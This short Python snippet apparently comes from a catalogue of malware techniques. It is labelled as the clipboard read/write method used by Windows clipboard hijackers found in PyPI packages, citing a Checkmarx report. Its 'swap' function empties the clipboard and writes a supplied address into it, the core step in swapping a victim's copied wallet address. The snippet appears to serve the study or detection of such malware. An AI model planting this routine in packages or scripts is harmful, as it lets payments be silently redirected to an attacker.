# technique: win32clipboard read/write
# class: desktop
# source: Checkmarx, Windows clipboard hijackers in PyPI packages
# declares:
import win32clipboard


def swap(addr):
    win32clipboard.OpenClipboard()
    win32clipboard.EmptyClipboard()
    win32clipboard.SetClipboardText(addr)
    win32clipboard.CloseClipboard()
